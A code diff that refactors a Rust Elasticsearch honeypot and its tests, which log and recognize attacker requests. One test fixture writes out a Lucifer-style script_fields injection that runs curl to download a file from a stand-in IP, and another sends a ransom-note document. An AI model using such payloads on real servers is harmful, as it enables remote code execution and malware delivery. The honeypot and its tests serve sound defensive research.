@@ -12,13 +12,8 @@
 
 use crate::catalog;
 use crate::logging::SessionLogger;
-use crate::low::read_or_fault;
+use crate::session::{Flow, Session};
 use decoy_base::json::{self, object, Value};
-use decoy_net::framed::Framed;
-use decoy_net::proxy;
-use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
-use decoy_store::{EventStore, HoneypotId};
-use decoy_wire::error::NetResult;
 use decoy_wire::http::{HttpRequest, HttpResponse, HttpServerCodec};
 use std::sync::Arc;
 
@@ -106,22 +101,19 @@ impl ResponseBook {
     }
 }
 
-/// The medium-interaction Elasticsearch honeypot.
+/// The medium-interaction Elasticsearch honeypot; the default
+/// configuration answers from the built-in defaults only.
+#[derive(Debug, Clone, Default)]
 pub struct ElasticPot {
-    store: Arc<EventStore>,
-    id: HoneypotId,
-    book: ResponseBook,
+    book: Arc<ResponseBook>,
 }
 
 impl ElasticPot {
-    /// Default configuration.
-    pub fn new(store: Arc<EventStore>, id: HoneypotId) -> Arc<Self> {
-        Self::with_book(store, id, ResponseBook::new())
-    }
-
     /// With a customized response book.
-    pub fn with_book(store: Arc<EventStore>, id: HoneypotId, book: ResponseBook) -> Arc<Self> {
-        Arc::new(ElasticPot { store, id, book })
+    pub fn with_book(book: ResponseBook) -> Self {
+        ElasticPot {
+            book: Arc::new(book),
+        }
     }
 
     fn respond(&self, req: &HttpRequest) -> HttpResponse {
@@ -268,75 +260,58 @@ impl ElasticPot {
     }
 }
 
-impl SessionHandler for ElasticPot {
-    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
-        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
-            Ok(pair) => pair,
-            Err(_) => return,
-        };
-        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
-        log.connect();
-        if let Err(e) = self.session(stream, initial, &log).await {
-            if e.is_peer_fault() {
-                log.malformed(e.to_string());
-            }
+impl Session for ElasticPot {
+    type Codec = HttpServerCodec;
+
+    fn codec(&self) -> HttpServerCodec {
+        HttpServerCodec
+    }
+
+    fn on_frame(
+        &mut self,
+        req: HttpRequest,
+        out: &mut Vec<HttpResponse>,
+        log: &SessionLogger,
+    ) -> Flow {
+        log.command(&render(&req));
+        if decoy_store::foreign::recognize(&req.body).is_some()
+            || decoy_store::foreign::recognize(req.target.as_bytes()).is_some()
+        {
+            log.payload(&[req.target.as_bytes(), b" ", req.body.as_ref()].concat());
         }
-        log.disconnect();
+        out.push(self.respond(&req));
+        flow_after(&req)
     }
 }
 
-impl ElasticPot {
-    async fn session(
-        &self,
-        stream: SessionStream,
-        initial: decoy_wire::buf::RecvBuf,
-        log: &SessionLogger,
-    ) -> NetResult<()> {
-        let mut framed = Framed::with_initial(stream, HttpServerCodec, initial);
-        loop {
-            let req = read_or_fault!(framed, log);
-            // Render the way Elasticpot logs: METHOD + target (+ body).
-            let rendered = if req.body.is_empty() {
-                format!("{} {}", req.method, req.target)
-            } else {
-                format!("{} {} {}", req.method, req.target, req.body_text())
-            };
-            log.command(&rendered);
-            if decoy_store::foreign::recognize(&req.body).is_some()
-                || decoy_store::foreign::recognize(req.target.as_bytes()).is_some()
-            {
-                log.payload(&[req.target.as_bytes(), b" ", req.body.as_ref()].concat());
-            }
-            let resp = self.respond(&req);
-            // head renders into the pooled write buffer; the body (often a
-            // shared canned response) goes out borrowed via vectored I/O
-            framed
-                .write_split(
-                    |buf| decoy_wire::http::encode_response_head(&resp, buf),
-                    &resp.body,
-                )
-                .await?;
-            let close = req
-                .header("connection")
-                .map(|v| v.eq_ignore_ascii_case("close"))
-                .unwrap_or(false);
-            if close {
-                return Ok(());
-            }
-        }
+/// A request rendered the way Elasticpot logs it: METHOD + target (+ body).
+/// The CouchDB honeypot logs the same way.
+pub(crate) fn render(req: &HttpRequest) -> String {
+    if req.body.is_empty() {
+        format!("{} {}", req.method, req.target)
+    } else {
+        format!("{} {} {}", req.method, req.target, req.body_text())
+    }
+}
+
+/// An HTTP session reads on unless the client sent `Connection: close`.
+pub(crate) fn flow_after(req: &HttpRequest) -> Flow {
+    match req.header("connection") {
+        Some(v) if v.eq_ignore_ascii_case("close") => Flow::Close,
+        _ => Flow::Continue,
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use decoy_base::time::Clock;
-    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
-    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
+    use crate::driver::Driver;
+    use decoy_store::{ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel};
     use decoy_wire::http::HttpClientCodec;
-    use tokio::net::TcpStream;
 
-    async fn spawn(book: ResponseBook) -> (ServerHandle, Arc<EventStore>) {
+    type Client = Driver<ElasticPot, HttpClientCodec>;
+
+    fn connect(book: ResponseBook) -> (Client, Arc<EventStore>) {
         let store = EventStore::new();
         let id = HoneypotId::new(
             Dbms::Elastic,
@@ -344,41 +319,22 @@ mod tests {
             ConfigVariant::Default,
             0,
         );
-        let hp = ElasticPot::with_book(store.clone(), id, book);
-        let server = Listener::bind(
-            "127.0.0.1:0".parse().unwrap(),
-            hp,
-            ListenerOptions {
-                max_sessions: 64,
-                clock: Clock::simulated(),
-                ..ListenerOptions::default()
-            },
-        )
-        .await
-        .unwrap();
-        (server, store)
+        let client = Driver::connect(ElasticPot::with_book(book), &store, id, HttpClientCodec);
+        (client, store)
     }
 
-    async fn request(f: &mut Framed<TcpStream, HttpClientCodec>, req: HttpRequest) -> HttpResponse {
-        f.write_frame(&req).await.unwrap();
-        f.read_frame().await.unwrap().unwrap()
-    }
-
-    #[tokio::test]
-    async fn banner_and_cluster_endpoints() {
-        let (server, store) = spawn(ResponseBook::new()).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, HttpClientCodec);
-        let banner = request(&mut f, HttpRequest::new("GET", "/")).await;
+    #[test]
+    fn banner_and_cluster_endpoints() {
+        let (mut f, store) = connect(ResponseBook::new());
+        let banner = f.roundtrip(&HttpRequest::new("GET", "/"));
         assert_eq!(banner.status, 200);
         let v = json::parse(&banner.body).unwrap();
         assert_eq!(v["tagline"].as_str(), Some("You Know, for Search"));
-        let health = request(&mut f, HttpRequest::new("GET", "/_cluster/health")).await;
+        let health = f.roundtrip(&HttpRequest::new("GET", "/_cluster/health"));
         let v = json::parse(&health.body).unwrap();
         assert_eq!(v["status"].as_str(), Some("yellow"));
-        let nodes = request(&mut f, HttpRequest::new("GET", "/_nodes")).await;
+        let nodes = f.roundtrip(&HttpRequest::new("GET", "/_nodes"));
         assert_eq!(nodes.status, 200);
-        server.shutdown().await;
         assert_eq!(
             store
                 .filter(|e| matches!(e.kind, EventKind::Command { .. }))
@@ -387,16 +343,13 @@ mod tests {
         );
     }
 
-    #[tokio::test]
-    async fn custom_rules_override_defaults() {
+    #[test]
+    fn custom_rules_override_defaults() {
         let custom = object([("custom", true.into())]);
         let book = ResponseBook::new().with_rule("GET", "/_cat/indices", 200, custom);
-        let (server, _store) = spawn(book).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, HttpClientCodec);
-        let resp = request(&mut f, HttpRequest::new("GET", "/_cat/indices")).await;
+        let (mut f, _store) = connect(book);
+        let resp = f.roundtrip(&HttpRequest::new("GET", "/_cat/indices"));
         assert_eq!(resp.body_text(), r#"{"custom":true}"#);
-        server.shutdown().await;
     }
 
     #[test]
@@ -418,22 +371,16 @@ mod tests {
         assert_eq!((rule.status, &rule.body), (200, &Value::Null));
     }
 
-    #[tokio::test]
-    async fn lucifer_script_injection_is_logged_and_answered() {
+    #[test]
+    fn lucifer_script_injection_is_logged_and_answered() {
         // Listing 5: /_search?source={... script_fields ... Runtime.getRuntime ...}
-        let (server, store) = spawn(ResponseBook::new()).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, HttpClientCodec);
+        let (mut f, store) = connect(ResponseBook::new());
         let body = r#"{"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"exp":{"script":"import java.util.*; Runtime.getRuntime().exec(\"curl -o /tmp/sss6 http://198.51.100.8:9999/sss6\")"}}}"#;
-        let resp = request(
-            &mut f,
-            HttpRequest::new("POST", "/_search").with_body("application/json", body),
-        )
-        .await;
+        let resp =
+            f.roundtrip(&HttpRequest::new("POST", "/_search").with_body("application/json", body));
         assert_eq!(resp.status, 200);
         let v = json::parse(&resp.body).unwrap();
         assert_eq!(v["timed_out"].as_bool(), Some(false));
-        server.shutdown().await;
         let cmds = store.filter(
             |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.contains("script_fields")),
         );
@@ -445,66 +392,47 @@ mod tests {
         assert!(action.contains("http://<IP>/sss6"), "{action}");
     }
 
-    #[tokio::test]
-    async fn craftcms_probe_is_recognized() {
-        let (server, store) = spawn(ResponseBook::new()).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, HttpClientCodec);
+    #[test]
+    fn craftcms_probe_is_recognized() {
+        let (mut f, store) = connect(ResponseBook::new());
         let body = decoy_store::foreign::craftcms_probe_body();
-        let resp = request(
-            &mut f,
-            HttpRequest::new("POST", "/index.php")
+        let resp = f.roundtrip(
+            &HttpRequest::new("POST", "/index.php")
                 .with_body("application/x-www-form-urlencoded", body),
-        )
-        .await;
+        );
         // no Craft CMS here: invalid-for-ES syntax yields the 404 error json
         assert_eq!(resp.status, 404);
-        server.shutdown().await;
         let payloads = store.filter(|e| {
             matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "craftcms-probe")
         });
         assert_eq!(payloads.len(), 1);
     }
 
-    #[tokio::test]
-    async fn document_insert_pretends_to_succeed() {
-        let (server, _store) = spawn(ResponseBook::new()).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, HttpClientCodec);
-        let resp = request(
-            &mut f,
-            HttpRequest::new("POST", "/pwned/_doc")
+    #[test]
+    fn document_insert_pretends_to_succeed() {
+        let (mut f, _store) = connect(ResponseBook::new());
+        let resp = f.roundtrip(
+            &HttpRequest::new("POST", "/pwned/_doc")
                 .with_body("application/json", r#"{"ransom":"pay up"}"#),
-        )
-        .await;
+        );
         assert_eq!(resp.status, 201);
         let v = json::parse(&resp.body).unwrap();
         assert_eq!(v["result"].as_str(), Some("created"));
-        server.shutdown().await;
     }
 
-    #[tokio::test]
-    async fn connection_close_header_is_honored() {
-        let (server, _store) = spawn(ResponseBook::new()).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, HttpClientCodec);
+    #[test]
+    fn connection_close_header_is_honored() {
+        let (mut f, _store) = connect(ResponseBook::new());
         let mut req = HttpRequest::new("GET", "/");
         req.headers.push(("Connection".into(), "close".into()));
-        let resp = request(&mut f, req).await;
+        let resp = f.roundtrip(&req);
         assert_eq!(resp.status, 200);
         // server closes; next read yields clean EOF
-        assert!(f.read_frame().await.unwrap().is_none());
-        server.shutdown().await;
+        assert!(f.read().unwrap().is_none());
     }
 
     fn answer(book: ResponseBook, req: HttpRequest) -> (u16, String) {
-        let id = HoneypotId::new(
-            Dbms::Elastic,
-            InteractionLevel::Medium,
-            ConfigVariant::Default,
-            0,
-        );
-        let resp = ElasticPot::with_book(EventStore::new(), id, book).respond(&req);
+        let resp = ElasticPot::with_book(book).respond(&req);
         (resp.status, resp.body_text())
     }
 
